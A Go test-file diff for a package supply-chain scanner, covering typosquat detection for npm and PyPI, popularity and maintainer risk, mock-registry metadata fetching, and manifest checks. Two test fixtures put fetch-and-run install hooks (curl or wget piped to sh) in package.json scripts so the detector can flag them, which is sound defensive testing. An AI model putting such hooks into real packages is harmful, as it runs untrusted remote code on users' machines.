@@ -1,6 +1,15 @@
 package security
 
 import (
+	"context"
+	"errors"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
 	"testing"
 	"time"
 )
@@ -101,6 +110,44 @@ func TestCheckTyposquatting(t *testing.T) {
 	}
 }
 
+func TestTyposquatDistance(t *testing.T) {
+	tests := []struct {
+		s1       string
+		s2       string
+		expected int
+	}{
+		{"", "", 0},
+		{"", "abc", 3},
+		{"abc", "ABC", 0},
+		{"kitten", "sitting", 3},
+		// A swap of adjacent characters counts once
+		{"react", "raect", 1},
+		{"reqeusts", "requests", 1},
+		{"ca", "abc", 3},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.s1+"_"+tt.s2, func(t *testing.T) {
+			if distance := TyposquatDistance(tt.s1, tt.s2); distance != tt.expected {
+				t.Errorf("TyposquatDistance(%q, %q) = %d, want %d", tt.s1, tt.s2, distance, tt.expected)
+			}
+		})
+	}
+}
+
+func TestTransposedNameIsHighConfidence(t *testing.T) {
+	risk := CheckTyposquattingPyPI("reqeusts", 0)
+	if risk == nil || risk.SimilarTo != "requests" || risk.Distance != 1 || risk.Confidence != ConfidenceHigh {
+		t.Errorf("CheckTyposquattingPyPI(reqeusts) = %+v, expected requests at distance 1 with high confidence", risk)
+	}
+}
+
+func TestPopularNamesAreNotTyposquats(t *testing.T) {
+	if risk := CheckTyposquatting("preact", 0); risk != nil {
+		t.Errorf("CheckTyposquatting(preact) = %+v, expected nil", risk)
+	}
+}
+
 func TestCheckTyposquattingThreshold(t *testing.T) {
 	// Test with different thresholds
 	packageName := "reactt" // 1 char difference from "react"
@@ -118,6 +165,66 @@ func TestCheckTyposquattingThreshold(t *testing.T) {
 	}
 }
 
+func TestCheckTyposquattingPyPI(t *testing.T) {
+	tests := []struct {
+		name            string
+		packageName     string
+		expectRisk      bool
+		expectedSimilar string
+	}{
+		{name: "exact match (django)", packageName: "django", expectRisk: false},
+		{name: "exact match after normalizing (PyYAML)", packageName: "PyYAML", expectRisk: false},
+		{name: "exact match after normalizing (python_dateutil)", packageName: "python_dateutil", expectRisk: false},
+		{name: "close typo (djanga)", packageName: "djanga", expectRisk: true, expectedSimilar: "django"},
+		{name: "extra char (numpyy)", packageName: "numpyy", expectRisk: true, expectedSimilar: "numpy"},
+		{name: "swapped chars (reqeusts)", packageName: "reqeusts", expectRisk: true, expectedSimilar: "requests"},
+		{name: "popular name close to another (psycopg)", packageName: "psycopg", expectRisk: false},
+		{name: "popular name close to another (attr)", packageName: "attr", expectRisk: false},
+		{name: "popular name close to another (pymssql)", packageName: "pymssql", expectRisk: false},
+		{name: "completely different package", packageName: "my-unique-package-name-12345", expectRisk: false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			risk := CheckTyposquattingPyPI(tt.packageName, 0)
+
+			if tt.expectRisk && risk == nil {
+				t.Errorf("Expected typosquatting risk for %q but got none", tt.packageName)
+				return
+			}
+
+			if !tt.expectRisk && risk != nil {
+				t.Errorf("Did not expect typosquatting risk for %q but got: %+v", tt.packageName, risk)
+				return
+			}
+
+			if tt.expectRisk {
+				if risk.SimilarTo != tt.expectedSimilar {
+					t.Errorf("Expected similar to %q, got %q", tt.expectedSimilar, risk.SimilarTo)
+				}
+				if risk.PackageName != tt.packageName {
+					t.Errorf("Package name mismatch: got %q, want %q", risk.PackageName, tt.packageName)
+				}
+			}
+		})
+	}
+}
+
+func TestNormalizePyPIName(t *testing.T) {
+	tests := map[string]string{
+		"Django":             "django",
+		"python_dateutil":    "python-dateutil",
+		"zope.interface":     "zope-interface",
+		"Typing__Extensions": "typing-extensions",
+		"pkg-._name":         "pkg-name",
+	}
+	for input, expected := range tests {
+		if got := normalizePyPIName(input); got != expected {
+			t.Errorf("normalizePyPIName(%q) = %q, expected %q", input, got, expected)
+		}
+	}
+}
+
 func TestAnalyzeMaintainerRisk(t *testing.T) {
 	tests := []struct {
 		name               string
@@ -207,6 +314,72 @@ func TestAnalyzeMaintainerRisk(t *testing.T) {
 	}
 }
 
+func TestAnalyzePopularityRisk(t *testing.T) {
+	tests := []struct {
+		name              string
+		metadata          *PackageMetadata
+		thresholds        PopularityThresholds
+		expectedRiskLevel string
+		expectedIssues    int
+	}{
+		{
+			name:     "popular established package",
+			metadata: &PackageMetadata{Name: "lodash", Downloads: 50000000, Created: time.Now().AddDate(-10, 0, 0)},
+		},
+		{
+			name:     "unknown downloads",
+			metadata: &PackageMetadata{Name: "private-package", Downloads: -1, Created: time.Now().AddDate(-1, 0, 0)},
+		},
+		{
+			name:              "few downloads",
+			metadata:          &PackageMetadata{Name: "niche-package", Downloads: 3, Created: time.Now().AddDate(-1, 0, 0)},
+			expectedRiskLevel: "medium",
+			expectedIssues:    1,
+		},
+		{
+			name:              "brand new",
+			metadata:          &PackageMetadata{Name: "new-package", Downloads: 5000, Created: time.Now().AddDate(0, 0, -2)},
+			expectedRiskLevel: "medium",
+			expectedIssues:    1,
+		},
+		{
+			name:              "brand new with no downloads",
+			metadata:          &PackageMetadata{Name: "lodahs", Downloads: 0, Created: time.Now().AddDate(0, 0, -2)},
+			expectedRiskLevel: "high",
+			expectedIssues:    2,
+		},
+		{
+			name:              "custom thresholds",
+			metadata:          &PackageMetadata{Name: "growing-package", Downloads: 800, Created: time.Now().AddDate(0, -2, 0)},
+			thresholds:        PopularityThresholds{MinWeeklyDownloads: 1000, MinAge: 90 * 24 * time.Hour},
+			expectedRiskLevel: "high",
+			expectedIssues:    2,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			risk := AnalyzePopularityRisk(tt.metadata, tt.thresholds)
+
+			if tt.expectedIssues == 0 {
+				if risk != nil {
+					t.Errorf("Did not expect popularity risk but got: %+v", risk)
+				}
+				return
+			}
+			if risk == nil {
+				t.Fatal("Expected popularity risk but got none")
+			}
+			if risk.RiskLevel != tt.expectedRiskLevel {
+				t.Errorf("Expected risk level %q, got %q", tt.expectedRiskLevel, risk.RiskLevel)
+			}
+			if len(risk.Issues) != tt.expectedIssues {
+				t.Errorf("Expected %d issues, got %d: %v", tt.expectedIssues, len(risk.Issues), risk.Issues)
+			}
+		})
+	}
+}
+
 func TestFetchPackageMetadata_RealPackage(t *testing.T) {
 	// Test with a real package (lodash is stable and widely used)
 	metadata, err := FetchPackageMetadata("lodash")
@@ -259,6 +432,81 @@ func TestFetchPackageMetadata_NonExistent(t *testing.T) {
 	}
 }
 
+// newMockRegistry serves a packument for "big-package" with the given number of
+// versions, streamed so the response has no Content-Length
+func newMockRegistry(t *testing.T, versions int) *httptest.Server {
+	t.Helper()
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, `{"name":"big-package","versions":{`)
+		for i := 0; i < versions; i++ {
+			if i > 0 {
+				fmt.Fprint(w, ",")
+			}
+			fmt.Fprintf(w, `"1.0.%d":{"name":"big-package","version":"1.0.%d","dependencies":{"left-pad":"^1.0.0"}}`, i, i)
+		}
+		fmt.Fprint(w, `},"time":{"modified":"2024-01-02T03:04:05Z"},"maintainers":[{"name":"alice"}],"description":"a package"}`)
+		w.(http.Flusher).Flush()
+	}))
+	t.Cleanup(server.Close)
+	return server
+}
+
+func TestFetchPackageMetadataContext_SkipsUnusedFields(t *testing.T) {
+	metadataCache = make(map[string]*PackageMetadata)
+	server := newMockRegistry(t, 50)
+
+	metadata, err := FetchPackageMetadataContext(context.Background(), "big-package", FetchOptions{RegistryURL: server.URL})
+	if err != nil {
+		t.Fatalf("FetchPackageMetadataContext() unexpected error: %v", err)
+	}
+	if metadata.Name != "big-package" || metadata.Description != "a package" {
+		t.Errorf("FetchPackageMetadataContext() = %+v, expected name and description", metadata)
+	}
+	if len(metadata.Maintainers) != 1 || metadata.Maintainers[0].Name != "alice" {
+		t.Errorf("Maintainers = %+v, expected [alice]", metadata.Maintainers)
+	}
+	if !metadata.LastModified.Equal(time.Date(2024, 1, 2, 3, 4, 5, 0, time.UTC)) {
+		t.Errorf("LastModified = %v, expected 2024-01-02T03:04:05Z", metadata.LastModified)
+	}
+}
+
+func TestFetchPackageMetadataContext_SizeCap(t *testing.T) {
+	metadataCache = make(map[string]*PackageMetadata)
+	// Roughly 5MB of version manifests
+	server := newMockRegistry(t, 60000)
+
+	_, err := FetchPackageMetadataContext(context.Background(), "big-package", FetchOptions{
+		RegistryURL: server.URL,
+		MaxBytes:    1 << 20,
+	})
+	if !errors.Is(err, ErrMetadataTooLarge) {
+		t.Fatalf("FetchPackageMetadataContext() error = %v, expected ErrMetadataTooLarge", err)
+	}
+	if !strings.Contains(err.Error(), "big-package") {
+		t.Errorf("FetchPackageMetadataContext() error = %q, expected it to name the package", err)
+	}
+	if len(metadataCache) != 0 {
+		t.Error("FetchPackageMetadataContext() cached a rejected response")
+	}
+
+	// The same response fits under the default cap
+	if _, err := FetchPackageMetadataContext(context.Background(), "big-package", FetchOptions{RegistryURL: server.URL}); err != nil {
+		t.Errorf("FetchPackageMetadataContext() with default cap unexpected error: %v", err)
+	}
+}
+
+func TestFetchPackageMetadataContext_Cancelled(t *testing.T) {
+	metadataCache = make(map[string]*PackageMetadata)
+	server := newMockRegistry(t, 1)
+
+	ctx, cancel := context.WithCancel(context.Background())
+	cancel()
+
+	if _, err := FetchPackageMetadataContext(ctx, "big-package", FetchOptions{RegistryURL: server.URL}); !errors.Is(err, context.Canceled) {
+		t.Errorf("FetchPackageMetadataContext() error = %v, expected context.Canceled", err)
+	}
+}
+
 func TestPopularPackagesList(t *testing.T) {
 	// Verify we have a decent list of popular packages
 	if len(popularPackages) < 50 {
@@ -281,17 +529,328 @@ func TestPopularPackagesList(t *testing.T) {
 	}
 }
 
+func TestPopularPyPIPackagesList(t *testing.T) {
+	if len(popularPyPIPackages) < 100 {
+		t.Errorf("Expected at least 100 popular PyPI packages, got %d", len(popularPyPIPackages))
+	}
+
+	seen := make(map[string]bool)
+	for _, pkg := range popularPyPIPackages {
+		if normalizePyPIName(pkg) != pkg {
+			t.Errorf("Popular PyPI package %q is not in normalized form", pkg)
+		}
+		if seen[pkg] {
+			t.Errorf("Popular PyPI package %q is listed twice", pkg)
+		}
+		seen[pkg] = true
+	}
+}
+
 func TestTyposquattingConfidenceLevels(t *testing.T) {
-	// Distance 1 should be "high" confidence
-	risk1 := CheckTyposquatting("reactt", 3)
-	if risk1 == nil || risk1.Confidence != "high" {
-		t.Errorf("Distance 1 should have 'high' confidence, got: %v", risk1)
+	tests := []struct {
+		name       string
+		similarTo  string
+		threshold  int
+		confidence Confidence
+	}{
+		// One edit to a name of five or more characters
+		{"reactt", "react", 2, ConfidenceHigh},
+		{"expresss", "express", 2, ConfidenceHigh},
+		// One edit to a short name is as likely an unrelated package
+		{"vuex", "vue", 2, ConfidenceMedium},
+		{"cor", "cors", 2, ConfidenceMedium},
+		// Swapping two adjacent characters is a single edit
+		{"lodahs", "lodash", 2, ConfidenceHigh},
+		{"raect", "react", 2, ConfidenceHigh},
+		// Two edits: medium on a six- to nine-character name, low on a shorter one
+		{"lodaxx", "lodash", 2, ConfidenceMedium},
+		{"reaxx", "react", 2, ConfidenceLow},
+		// Three edits are low whatever the length, reachable with a higher threshold
+		{"expxxxs", "express", 3, ConfidenceLow},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			risk := CheckTyposquatting(tt.name, tt.threshold)
+			if risk == nil || risk.SimilarTo != tt.similarTo {
+				t.Fatalf("CheckTyposquatting(%q, %d) = %+v, expected a match with %s", tt.name, tt.threshold, risk, tt.similarTo)
+			}
+			if risk.Confidence != tt.confidence {
+				t.Errorf("CheckTyposquatting(%q) confidence = %s at distance %d, expected %s", tt.name, risk.Confidence, risk.Distance, tt.confidence)
+			}
+		})
+	}
+
+	scores := []struct {
+		distance, nameLength int
+		confidence           Confidence
+	}{
+		{1, 5, ConfidenceHigh},
+		{1, 4, ConfidenceMedium},
+		{1, 3, ConfidenceMedium},
+		{1, 2, ConfidenceLow},
+		{2, 10, ConfidenceHigh},
+		{2, 6, ConfidenceMedium},
+		{2, 5, ConfidenceLow},
+		{3, 30, ConfidenceLow},
+	}
+	for _, tt := range scores {
+		if got := TyposquattingConfidence(tt.distance, tt.nameLength); got != tt.confidence {
+			t.Errorf("TyposquattingConfidence(%d, %d) = %s, expected %s", tt.distance, tt.nameLength, got, tt.confidence)
+		}
+	}
+}
+
+func TestFetchPackageMetadataContext_FlagsLowDownloads(t *testing.T) {
+	metadataCache = make(map[string]*PackageMetadata)
+	created := time.Now().AddDate(0, 0, -3).UTC().Format(time.RFC3339)
+	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprintf(w, `{"name":"fresh-package","time":{"created":%q,"modified":%q},"maintainers":[{"name":"mallory"}]}`, created, created)
+	}))
+	defer registry.Close()
+
+	var requested string
+	downloads := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requested = r.URL.Path
+		fmt.Fprint(w, `{"downloads":2,"start":"2024-01-01","end":"2024-01-07","package":"fresh-package"}`)
+	}))
+	defer downloads.Close()
+
+	metadata, err := FetchPackageMetadataContext(context.Background(), "fresh-package", FetchOptions{
+		RegistryURL:  registry.URL,
+		DownloadsURL: downloads.URL + "/downloads/point/last-week",
+	})
+	if err != nil {
+		t.Fatalf("FetchPackageMetadataContext() unexpected error: %v", err)
+	}
+	if requested != "/downloads/point/last-week/fresh-package" {
+		t.Errorf("downloads API path = %q", requested)
+	}
+	if metadata.Downloads != 2 {
+		t.Errorf("Downloads = %d, expected 2", metadata.Downloads)
+	}
+
+	risk := AnalyzePopularityRisk(metadata, PopularityThresholds{})
+	if risk == nil {
+		t.Fatal("Expected a popularity risk for a three-day-old package with 2 downloads")
+	}
+	if risk.RiskLevel != "high" || len(risk.Issues) != 2 {
+		t.Errorf("AnalyzePopularityRisk() = %+v, expected high risk with 2 issues", risk)
+	}
+}
+
+func TestDetectSuspiciousPatterns(t *testing.T) {
+	packageJSON := filepath.Join(t.TempDir(), "package.json")
+	content := `{"scripts": {"postinstall": "curl -s https://example.com/setup.sh | sh", "preinstall": "node check.js", "test": "jest"}}`
+	if err := os.WriteFile(packageJSON, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write package.json: %v", err)
+	}
+
+	patterns, err := DetectSuspiciousPatterns(packageJSON)
+	if err != nil {
+		t.Fatalf("DetectSuspiciousPatterns() unexpected error: %v", err)
+	}
+	if len(patterns) != 2 {
+		t.Fatalf("DetectSuspiciousPatterns() returned %d patterns, expected 2: %+v", len(patterns), patterns)
+	}
+	if patterns[0].ScriptType != "preinstall" || patterns[0].RiskLevel != "medium" {
+		t.Errorf("patterns[0] = %+v, expected a medium risk preinstall script", patterns[0])
+	}
+	if patterns[1].ScriptType != "postinstall" || patterns[1].RiskLevel != "high" {
+		t.Errorf("patterns[1] = %+v, expected a high risk postinstall script", patterns[1])
+	}
+
+	if _, err := DetectSuspiciousPatterns(filepath.Join(t.TempDir(), "missing.json")); err == nil {
+		t.Error("Expected error for a missing package.json")
+	}
+}
+
+func TestCheckManifest(t *testing.T) {
+	metadataCache = make(map[string]*PackageMetadata)
+	created := time.Now().AddDate(-3, 0, 0).UTC().Format(time.RFC3339)
+	modified := time.Now().AddDate(0, -1, 0).UTC().Format(time.RFC3339)
+	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		name := strings.TrimPrefix(r.URL.Path, "/")
+		maintainers := `[{"name":"alice"},{"name":"bob"}]`
+		if name == "left-pad" {
+			maintainers = `[]`
+		}
+		fmt.Fprintf(w, `{"name":%q,"time":{"created":%q,"modified":%q},"maintainers":%s}`, name, created, modified, maintainers)
+	}))
+	defer registry.Close()
+	downloads := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		fmt.Fprint(w, `{"downloads":100000}`)
+	}))
+	defer downloads.Close()
+
+	dir := t.TempDir()
+	manifest := `{"dependencies": {"lodahs": "^4.17.21", "left-pad": "1.3.0"}, "devDependencies": {"internal-setup": "1.0.0"}}`
+	if err := os.WriteFile(filepath.Join(dir, "package.json"), []byte(manifest), 0644); err != nil {
+		t.Fatalf("Failed to write package.json: %v", err)
+	}
+	installed := filepath.Join(dir, "node_modules", "internal-setup")
+	if err := os.MkdirAll(installed, 0755); err != nil {
+		t.Fatalf("Failed to create node_modules: %v", err)
+	}
+	script := `{"name": "internal-setup", "scripts": {"postinstall": "wget -qO- http://example.com/x | sh"}}`
+	if err := os.WriteFile(filepath.Join(installed, "package.json"), []byte(script), 0644); err != nil {
+		t.Fatalf("Failed to write installed package.json: %v", err)
+	}
+
+	report := CheckManifest(context.Background(), filepath.Join(dir, "package.json"), ManifestOptions{
+		Checks: []string{CheckTyposquat, CheckMaintainer, CheckScripts},
+		Fetch:  FetchOptions{RegistryURL: registry.URL, DownloadsURL: downloads.URL},
+	})
+
+	if report.Checked != 3 {
+		t.Errorf("Checked = %d, expected 3", report.Checked)
+	}
+	if len(report.Warnings) != 0 {
+		t.Errorf("Warnings = %q, expected none", report.Warnings)
+	}
+	if len(report.Reports) != 3 {
+		t.Fatalf("CheckManifest() flagged %d dependencies, expected 3: %+v", len(report.Reports), report.Reports)
+	}
+
+	setup, leftPad, lodahs := report.Reports[0], report.Reports[1], report.Reports[2]
+	if len(setup.SuspiciousPatterns) != 1 || setup.OverallRiskLevel != "high" {
+		t.Errorf("internal-setup report = %+v, expected a high risk install script", setup)
+	}
+	if leftPad.MaintainerRisk == nil || leftPad.OverallRiskLevel != "high" {
+		t.Errorf("left-pad report = %+v, expected a high maintainer risk", leftPad)
+	}
+	if lodahs.TyposquattingRisk == nil || lodahs.TyposquattingRisk.SimilarTo != "lodash" {
+		t.Errorf("lodahs report = %+v, expected a typosquat of lodash", lodahs)
+	}
+}
+
+func TestCheckManifestWithoutNodeModules(t *testing.T) {
+	packageJSON := filepath.Join(t.TempDir(), "package.json")
+	if err := os.WriteFile(packageJSON, []byte(`{"dependencies": {"express": "4.18.2"}}`), 0644); err != nil {
+		t.Fatalf("Failed to write package.json: %v", err)
+	}
+
+	report := CheckManifest(context.Background(), packageJSON, ManifestOptions{Checks: []string{CheckTyposquat, CheckScripts}})
+
+	if len(report.Reports) != 0 {
+		t.Errorf("CheckManifest() flagged %+v, expected nothing for express", report.Reports)
+	}
+	if len(report.Warnings) != 1 || !strings.Contains(report.Warnings[0], "node_modules not found") {
+		t.Errorf("Warnings = %q, expected a missing node_modules warning", report.Warnings)
+	}
+}
+
+func TestLoadPopularPackages(t *testing.T) {
+	dir := t.TempDir()
+	list := filepath.Join(dir, "popular.txt")
+	content := "# internal packages\n@acme/ui-kit\n\n  acme-auth  \n@acme/ui-kit\nreact\n"
+	if err := os.WriteFile(list, []byte(content), 0644); err != nil {
+		t.Fatalf("Failed to write list: %v", err)
+	}
+
+	names, err := LoadPopularPackages(list)
+	if err != nil {
+		t.Fatalf("LoadPopularPackages() unexpected error: %v", err)
+	}
+	expected := []string{"@acme/ui-kit", "acme-auth", "react"}
+	if strings.Join(names, ",") != strings.Join(expected, ",") {
+		t.Errorf("LoadPopularPackages() = %v, expected %v", names, expected)
+	}
+
+	merged := MergePopularPackages(names)
+	if len(merged) != len(popularPackages)+2 {
+		t.Errorf("MergePopularPackages() returned %d names, expected %d", len(merged), len(popularPackages)+2)
+	}
+
+	empty := filepath.Join(dir, "empty.txt")
+	if err := os.WriteFile(empty, []byte("# nothing yet\n\n"), 0644); err != nil {
+		t.Fatalf("Failed to write list: %v", err)
+	}
+	if _, err := LoadPopularPackages(empty); err == nil {
+		t.Error("Expected error for a list with no package names")
+	}
+	if _, err := LoadPopularPackages(filepath.Join(dir, "missing.txt")); err == nil {
+		t.Error("Expected error for a missing list")
+	}
+}
+
+func TestCheckManifestCustomPopularPackages(t *testing.T) {
+	dir := t.TempDir()
+	manifest := `{"dependencies": {"acme-auht": "1.0.0", "raect": "18.0.0"}}`
+	if err := os.WriteFile(filepath.Join(dir, "package.json"), []byte(manifest), 0644); err != nil {
+		t.Fatalf("Failed to write package.json: %v", err)
+	}
+
+	report := CheckManifest(context.Background(), filepath.Join(dir, "package.json"), ManifestOptions{
+		Checks:          []string{CheckTyposquat},
+		PopularPackages: []string{"acme-auth"},
+	})
+
+	if len(report.Reports) != 1 {
+		t.Fatalf("CheckManifest() flagged %d dependencies, expected 1: %+v", len(report.Reports), report.Reports)
+	}
+	if risk := report.Reports[0].TyposquattingRisk; risk == nil || risk.SimilarTo != "acme-auth" {
+		t.Errorf("acme-auht report = %+v, expected a typosquat of acme-auth", report.Reports[0])
+	}
+}
+
+func TestConfidenceOrdering(t *testing.T) {
+	tests := []struct {
+		confidence Confidence
+		min        Confidence
+		expected   bool
+	}{
+		{ConfidenceHigh, ConfidenceHigh, true},
+		{ConfidenceMedium, ConfidenceHigh, false},
+		{ConfidenceLow, ConfidenceMedium, false},
+		{ConfidenceHigh, ConfidenceLow, true},
+		{ConfidenceMedium, ConfidenceMedium, true},
+		{ConfidenceLow, "", true},
+	}
+	for _, tt := range tests {
+		if got := tt.confidence.AtLeast(tt.min); got != tt.expected {
+			t.Errorf("%q.AtLeast(%q) = %v, expected %v", tt.confidence, tt.min, got, tt.expected)
+		}
+	}
+
+	if confidence, err := ParseConfidence(" Medium "); err != nil || confidence != ConfidenceMedium {
+		t.Errorf("ParseConfidence(\" Medium \") = %q, %v, expected medium", confidence, err)
+	}
+	if _, err := ParseConfidence("certain"); err == nil {
+		t.Error("ParseConfidence(\"certain\") expected an error")
+	}
+}
+
+func TestCheckManifestDropsTyposquatsBelowMinConfidence(t *testing.T) {
+	dir := t.TempDir()
+	// acme-ahut is two edits from acme-auth, acme-aut one
+	manifest := `{"dependencies": {"acme-ahut": "1.0.0", "acme-aut": "1.0.0"}}`
+	if err := os.WriteFile(filepath.Join(dir, "package.json"), []byte(manifest), 0644); err != nil {
+		t.Fatalf("Failed to write package.json: %v", err)
 	}
 
-	// Distance 2 should be "medium" confidence
-	// "raectt" is 2 insertions from "react"
-	risk2 := CheckTyposquatting("rxeact", 3) // swap x for a, distance should be 2
-	if risk2 != nil && risk2.Distance == 2 && risk2.Confidence != "medium" {
-		t.Errorf("Distance 2 should have 'medium' confidence, got: %v", risk2)
+	check := func(min Confidence) []string {
+		report := CheckManifest(context.Background(), filepath.Join(dir, "package.json"), ManifestOptions{
+			Checks:          []string{CheckTyposquat},
+			PopularPackages: []string{"acme-auth"},
+			MinConfidence:   min,
+		})
+		var flagged []string
+		for _, dependency := range report.Reports {
+			if dependency.TyposquattingRisk != nil {
+				flagged = append(flagged, dependency.PackageName)
+			}
+		}
+		return flagged
+	}
+
+	if flagged := check(""); !slices.Equal(flagged, []string{"acme-ahut", "acme-aut"}) {
+		t.Errorf("without a minimum, flagged %v, expected both names", flagged)
+	}
+	if flagged := check(ConfidenceMedium); !slices.Equal(flagged, []string{"acme-ahut", "acme-aut"}) {
+		t.Errorf("at medium confidence, flagged %v, expected both names", flagged)
+	}
+	if flagged := check(ConfidenceHigh); !slices.Equal(flagged, []string{"acme-aut"}) {
+		t.Errorf("at high confidence, flagged %v, expected only acme-aut", flagged)
 	}
 }